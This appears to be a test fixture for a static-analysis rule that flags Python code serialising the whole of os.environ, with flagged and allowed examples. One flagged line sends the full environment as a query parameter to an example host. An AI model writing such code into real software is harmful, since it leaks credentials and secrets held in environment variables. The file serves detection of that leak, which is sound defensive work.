import json, os
# ruleid: py_serialises_environment
requests.get(f'https://api.example.org/send?text={os.environ}')
# ruleid: py_serialises_environment
body = 'env: %s' % os.environ
# ruleid: py_serialises_environment
body = 'env: {}'.format(os.environ)
# ok: py_serialises_environment
path = '{HOME}/.config'.format(**os.environ)
# ok: py_serialises_environment
url = f'https://example.org/{os.environ["REGION"]}'
# ok: py_serialises_environment
line = 'region: %s' % os.environ.get('REGION')
def spawn(env):
    """
    # ok: py_serialises_environment
    @param env: the environment of the child, by default L{os.environ}
    """
